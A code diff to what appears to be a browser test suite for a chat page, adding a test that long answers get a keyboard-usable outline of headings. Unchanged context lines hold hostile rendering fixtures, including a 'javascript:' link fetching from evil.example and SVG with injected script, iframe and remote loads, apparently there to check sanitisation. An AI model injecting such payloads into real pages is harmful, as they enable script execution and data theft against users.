@@ -29,6 +29,12 @@ const rich = [
   fenced('mermaid', 'graph TD\n  A[[[ --> broken'),
 ].join('\n\n');
 
+const sections = 10;
+const long = Array.from(
+  { length: sections },
+  (_, index) => `## Part ${index + 1} of \`it\`\n\n${'A sentence that says something about this part. '.repeat(9)}`,
+).join('\n\n');
+
 const attack = "javascript:fetch('https://evil.example/run')";
 const hostile = [
   fenced(
@@ -73,6 +79,7 @@ beforeAll(async () => {
   evil = typeof bound === 'object' && bound !== null ? `http://127.0.0.1:${bound.port}` : '';
   core = createPageCore();
   await tell('A rich answer', rich, 'container');
+  await tell('A long answer', long);
   await tell('A hostile answer', hostile);
   served = await servePage(core);
   await served.resize(1360, 860);
@@ -182,6 +189,31 @@ const drawingOf = (
 <style>@import url(${evil}/k.css);</style><script>top.pwned = 1; fetch('${evil}/l')</script>
 <image xlink:href="${evil}/m.png" width="9" height="9"/><rect width="80" height="40" fill="teal"/>
 <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/n"></iframe></foreignObject></svg>`;
+
+describe('a long answer', { timeout: 120_000 }, () => {
+  // Catches: an outline that jumps beside its heading, or cannot be used without a mouse.
+  it('has an outline of its headings, above it and at its end, by which a keyboard gets to each', async () => {
+    const { page } = served;
+    await open('A long answer');
+    const log = page.getByRole('log');
+    const heading = (part: number) => log.getByRole('heading', { name: `Part ${part} of it`, exact: true });
+    const outlines = log.getByText(`Outline, ${sections} headings`);
+    await heading(sections).waitFor();
+    expect(await outlines.count()).toBe(2);
+    await outlines.last().focus();
+    await page.keyboard.press('Enter');
+    await log.getByRole('button', { name: 'Part 3 of it', exact: true }).focus();
+    await keepScreenshot(page, 'content-outline');
+    // The model chose how deep its headings are.
+    expect((await violations(page)).filter((one) => !one.startsWith('heading-order'))).toEqual([]);
+    await page.keyboard.press('Enter');
+    await expect.poll(() => heading(3).evaluate((element) => element === document.activeElement)).toBe(true);
+    const [top, shown] = [await log.boundingBox(), await heading(3).boundingBox()];
+    expect(Math.abs((shown?.y ?? 0) - (top?.y ?? 0))).toBeLessThan(60);
+    await open('A rich answer');
+    expect(await log.getByText(/^Outline/u).count()).toBe(0);
+  });
+});
 
 describe('the preview', { timeout: 120_000 }, () => {
   let made: Story;
